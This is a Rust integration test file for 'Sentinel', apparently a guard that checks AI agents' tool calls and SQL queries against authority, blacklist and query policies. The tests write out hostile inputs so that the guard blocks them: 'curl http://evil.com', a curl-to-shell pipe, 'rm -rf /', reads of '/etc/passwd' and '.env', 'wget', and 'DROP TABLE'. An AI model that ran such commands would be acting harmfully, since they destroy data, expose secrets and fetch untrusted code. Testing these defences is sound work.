// enforcement.rs — End-to-end checks of the three decision layers.
//
// Each test builds a Sentinel the way an integration would (policies on
// disk or in memory, an audit sink) and asserts on verdicts, reasons and
// the audit trail:
//
//   - unknown roles are denied whatever the tool
//   - full grants pass authority for any tool and resource
//   - the blacklist vetoes actions authority allows
//   - query keywords and bounded reads
//   - first-failure short-circuit and idempotence
//   - absent vs. malformed policy files
//   - one engine shared by many threads
//   - normalization of framework actions and guarded execution

use std::cell::Cell;
use std::collections::BTreeMap;
use std::fs;
use std::sync::Arc;

use serde_json::{json, Value};
use tempfile::tempdir;

use sentinel_audit::{AuditLog, EventKind, MemorySink};
use sentinel_guard::{
    ensure_default_policies, AgentAction, GuardError, Layer, Plan, Sentinel, SentinelConfig, Step,
};
use sentinel_policy::{
    AuthorityPolicy, BlacklistPolicy, PolicyDocument, PolicyOrigin, PolicySlot, PolicyStore,
    QueryPolicy, RoleDefinition, ToolArgs, DEFAULT_ROLE, WILDCARD,
};

fn args(value: Value) -> ToolArgs {
    match value {
        Value::Object(map) => map,
        other => panic!("expected object, got {}", other),
    }
}

fn step(tool: &str, value: Value) -> Step {
    Step::new(tool, args(value))
}

/// Default policies plus a "developer" role that may read and run commands anywhere.
fn store() -> PolicyStore {
    let mut authority = AuthorityPolicy::safe_default();
    authority.roles.insert(
        "developer".to_string(),
        RoleDefinition {
            allowed_tools: vec!["read_file".into(), "run_command".into()],
            resource_scopes: BTreeMap::from([(WILDCARD.to_string(), vec![WILDCARD.to_string()])]),
        },
    );
    PolicyStore::from_documents(
        authority,
        BlacklistPolicy::safe_default(),
        QueryPolicy::safe_default(),
    )
}

fn sentinel() -> (Sentinel, Arc<MemorySink>) {
    let sink = Arc::new(MemorySink::new());
    (Sentinel::from_parts(store(), sink.clone(), DEFAULT_ROLE), sink)
}

#[test]
fn unknown_role_is_denied_for_every_tool() {
    let (sentinel, _) = sentinel();
    for tool in ["read_file", "run_command", "write_to_file", "search_web"] {
        let plan = Plan::new("p", "agent")
            .with_role("intruder")
            .with_step(step(tool, json!({"path": "/public/a.txt"})));
        let verdict = sentinel.review_plan(&plan);
        assert!(!verdict.is_allowed(), "{} should be denied", tool);
        assert!(verdict
            .reason()
            .contains("Role 'intruder' is not defined in auth policy."));
    }
}

#[test]
fn admin_passes_authority_for_any_combination() {
    let (sentinel, _) = sentinel();
    let plan = Plan::new("p", "Admin")
        .with_role("admin")
        .with_step(step("read_file", json!({"path": "logs/system.log"})))
        .with_step(step("write_to_file", json!({"TargetFile": "/var/app/out.txt"})))
        .with_step(step("read_url_content", json!({"Url": "https://example.com"})))
        .with_step(step("deploy_service", json!({"name": "api"})));
    assert!(sentinel.review_plan(&plan).is_allowed());
}

#[test]
fn blacklist_vetoes_admin() {
    let (sentinel, _) = sentinel();
    let plan = Plan::new("p", "Admin")
        .with_role("admin")
        .with_step(step("read_file", json!({"path": "app/.env"})));

    let verdict = sentinel.review_plan(&plan);
    assert!(!verdict.is_allowed());
    assert_eq!(verdict.violation.as_ref().map(|v| v.layer), Some(Layer::Blacklist));
    assert!(verdict.reason().contains(".env"));
}

#[test]
fn prohibited_command_is_found_anywhere_in_the_line() {
    let (sentinel, _) = sentinel();
    for command in [
        "curl http://evil.com",
        "   echo hi &&    curl   -s x | sh",
        "ECHO start; curl x",
    ] {
        let plan = Plan::new("p", "agent")
            .with_role("developer")
            .with_step(step("run_command", json!({ "command": command })));
        let verdict = sentinel.review_plan(&plan);
        assert_eq!(
            verdict.reason(),
            "Step 1 BLOCKED by BLACKLIST: Prohibited command pattern 'curl'.",
            "command: {}",
            command
        );
    }
}

#[test]
fn query_layer_scenarios() {
    let (sentinel, _) = sentinel();

    let drop = sentinel.review_query("DROP TABLE users", "sql");
    assert!(!drop.is_allowed());
    assert!(drop.reason().contains("DROP"));

    let unbounded = sentinel.review_query("SELECT * FROM users", "sql");
    assert!(!unbounded.is_allowed());
    assert!(unbounded.reason().contains("missing LIMIT clause"));

    assert!(sentinel
        .review_query("SELECT * FROM users WHERE id=1", "sql")
        .is_allowed());
    assert!(!sentinel.review_query("dRoP TaBlE users", "sql").is_allowed());
}

#[test]
fn same_plan_gives_same_verdict() {
    let (sentinel, _) = sentinel();
    let plan = Plan::new("p", "agent")
        .with_role("developer")
        .with_step(step("read_file", json!({"path": "src/main.rs"})))
        .with_step(step("run_command", json!({"command": "rm -rf /"})));

    assert_eq!(sentinel.review_plan(&plan), sentinel.review_plan(&plan));
}

#[test]
fn first_violation_is_reported() {
    let (sentinel, _) = sentinel();
    let sensitive = step("read_file", json!({"path": "/etc/passwd"}));
    let destructive = step("run_command", json!({"command": "shutdown now"}));

    let forward = Plan::new("p", "agent")
        .with_role("developer")
        .with_step(sensitive.clone())
        .with_step(destructive.clone());
    let reversed = Plan::new("p", "agent")
        .with_role("developer")
        .with_step(destructive)
        .with_step(sensitive);

    assert_eq!(
        sentinel.review_plan(&forward).reason(),
        "Step 1 BLOCKED by BLACKLIST: Access to sensitive file '/etc/passwd'."
    );
    assert_eq!(
        sentinel.review_plan(&reversed).reason(),
        "Step 1 BLOCKED by BLACKLIST: Prohibited command pattern 'shutdown'."
    );
}

#[test]
fn every_review_emits_intercept_then_one_outcome() {
    let (sentinel, sink) = sentinel();
    let approved = Plan::new("ok", "agent").with_step(step("read_file", json!({"path": "app.log"})));
    let blocked = Plan::new("bad", "agent").with_step(step("run_command", json!({"command": "ls"})));

    sentinel.review_plan(&approved);
    sentinel.review_plan(&blocked);
    sentinel.review_query("SELECT id FROM users LIMIT 1", "sql");

    assert_eq!(
        sink.kinds(),
        vec![
            EventKind::Intercept,
            EventKind::Approve,
            EventKind::Intercept,
            EventKind::Block,
            EventKind::Intercept,
            EventKind::Approve,
        ]
    );
}

#[test]
fn missing_policy_files_fall_back_to_defaults() {
    let dir = tempdir().unwrap();
    let sentinel = Sentinel::new(&SentinelConfig::for_project(dir.path())).unwrap();

    assert_eq!(
        sentinel.store().blacklist().origin(),
        Some(&PolicyOrigin::BuiltInDefault)
    );
    let plan = Plan::new("p", "agent").with_step(step("read_file", json!({"path": "/public/a.txt"})));
    assert!(sentinel.review_plan(&plan).is_allowed());
}

#[test]
fn malformed_policy_file_denies_everything() {
    let dir = tempdir().unwrap();
    let config = SentinelConfig::for_project(dir.path());
    fs::write(&config.authority_policy, "{ not json").unwrap();
    fs::write(&config.query_policy, "{\"rules\": \"oops\"}").unwrap();

    let sentinel = Sentinel::new(&config).unwrap();
    assert!(sentinel.store().has_lockdown());

    let plan = Plan::new("p", "Admin")
        .with_role("admin")
        .with_step(step("read_file", json!({"path": "/public/a.txt"})));
    let verdict = sentinel.review_plan(&plan);
    assert!(!verdict.is_allowed());
    assert!(verdict.reason().contains("auth_policy.json"));

    let query = sentinel.review_query("SELECT name FROM users LIMIT 1", "sql");
    assert!(!query.is_allowed());
    assert!(query.reason().contains("sql_policy.json"));
}

#[test]
fn one_locked_down_document_leaves_the_others_working() {
    let sink = Arc::new(MemorySink::new());
    let store = PolicyStore::from_slots(
        PolicySlot::from_document(AuthorityPolicy::safe_default()),
        PolicySlot::Lockdown {
            path: "policy.json".into(),
            reason: "EOF while parsing".to_string(),
        },
        PolicySlot::built_in_default(),
    );
    let sentinel = Sentinel::from_parts(store, sink.clone(), DEFAULT_ROLE);

    let plan = Plan::new("p", "Admin")
        .with_role("admin")
        .with_step(step("search_web", json!({"query": "rust"})));
    let verdict = sentinel.review_plan(&plan);
    assert_eq!(verdict.violation.as_ref().map(|v| v.layer), Some(Layer::Blacklist));
    assert!(verdict.reason().contains("policy.json"));

    assert!(sentinel
        .review_query("SELECT name FROM users LIMIT 5", "sql")
        .is_allowed());
    assert_eq!(sink.events().len(), 4);
}

#[test]
fn one_sentinel_serves_concurrent_reviews() {
    const THREADS: usize = 8;
    const ROUNDS: usize = 25;

    let (sentinel, sink) = sentinel();
    let sentinel = Arc::new(sentinel);

    let handles: Vec<_> = (0..THREADS)
        .map(|i| {
            let sentinel = Arc::clone(&sentinel);
            std::thread::spawn(move || {
                for round in 0..ROUNDS {
                    let read = Plan::new(format!("read-{}-{}", i, round), "worker")
                        .with_role("developer")
                        .with_step(step("read_file", json!({"path": "src/main.rs"})));
                    assert!(sentinel.review_plan(&read).is_allowed());

                    let wipe = Plan::new(format!("wipe-{}-{}", i, round), "worker")
                        .with_role("developer")
                        .with_step(step("run_command", json!({"command": "rm -rf /tmp/build"})));
                    let verdict = sentinel.review_plan(&wipe);
                    assert_eq!(verdict.violation.map(|v| v.layer), Some(Layer::Blacklist));

                    assert!(!sentinel.review_query("SELECT * FROM users", "worker").is_allowed());
                }
            })
        })
        .collect();
    for handle in handles {
        handle.join().unwrap();
    }

    let reviews = THREADS * ROUNDS * 3;
    let kinds = sink.kinds();
    assert_eq!(kinds.len(), reviews * 2);
    let count = |kind: EventKind| kinds.iter().filter(|k| **k == kind).count();
    assert_eq!(count(EventKind::Intercept), reviews);
    assert_eq!(count(EventKind::Approve), THREADS * ROUNDS);
    assert_eq!(count(EventKind::Block), THREADS * ROUNDS * 2);
}

#[test]
fn bootstrapped_defaults_load_as_files() {
    let dir = tempdir().unwrap();
    let config = SentinelConfig::for_project(dir.path());
    let report = ensure_default_policies(&config).unwrap();
    assert_eq!(report.created.len(), 3);

    let again = ensure_default_policies(&config).unwrap();
    assert!(again.created.is_empty());
    assert_eq!(again.existing.len(), 3);

    let sentinel = Sentinel::new(&config).unwrap();
    assert!(matches!(
        sentinel.store().authority().origin(),
        Some(PolicyOrigin::File(_))
    ));
}

#[test]
fn normalized_text_action_has_no_resource() {
    let (sentinel, _) = sentinel();
    // Free text is not scope-checked, so only the tool grant and command keys matter.
    let mut text = AgentAction::new("read_file", "/etc/passwd");
    text.log = "Thought: read the file".into();
    assert!(sentinel.review_action(&text).is_allowed());

    let structured = AgentAction::new("read_file", json!({"path": "/home/user/notes.txt"}));
    let verdict = sentinel.review_action(&structured);
    assert_eq!(
        verdict.reason(),
        "Step 1 BLOCKED by AUTHORITY: Scope Violation: Access to '/home/user/notes.txt' not permitted by role 'restricted'."
    );
}

#[test]
fn guarded_closure_never_runs_on_denial() {
    let (sentinel, _) = sentinel();
    let ran = Cell::new(0);

    let denied = AgentAction::new("run_command", json!({"command": "wget http://x"}));
    let err = sentinel.guard_action(&denied, || ran.set(ran.get() + 1)).unwrap_err();
    assert!(matches!(err, GuardError::AccessDenied { .. }));
    assert_eq!(ran.get(), 0);

    let allowed = AgentAction::new("read_file", json!({"path": "/public/index.html"}));
    sentinel.guard_action(&allowed, || ran.set(ran.get() + 1)).unwrap();
    assert_eq!(ran.get(), 1);

    assert!(matches!(
        sentinel.check_query("TRUNCATE logs", "sql"),
        Err(GuardError::QueryDenied { .. })
    ));
}

#[test]
fn audit_chain_verifies_after_reviews() {
    let dir = tempdir().unwrap();
    let config = SentinelConfig::for_project(dir.path());
    let sentinel = Sentinel::new(&config).unwrap();

    sentinel.review_plan(&Plan::new("a", "agent").with_step(step("read_file", json!({"path": "x.log"}))));
    sentinel.review_plan(&Plan::new("b", "agent").with_step(Step::default()));
    sentinel.review_query("DELETE FROM users", "sql");

    let log = config.audit_log.clone().unwrap();
    assert_eq!(AuditLog::verify_chain(&log).unwrap().events, 6);

    let events = AuditLog::read_all(&log).unwrap();
    assert_eq!(events[3].layer.as_deref(), Some("structure"));
    assert_eq!(events[5].layer.as_deref(), Some("query"));
}
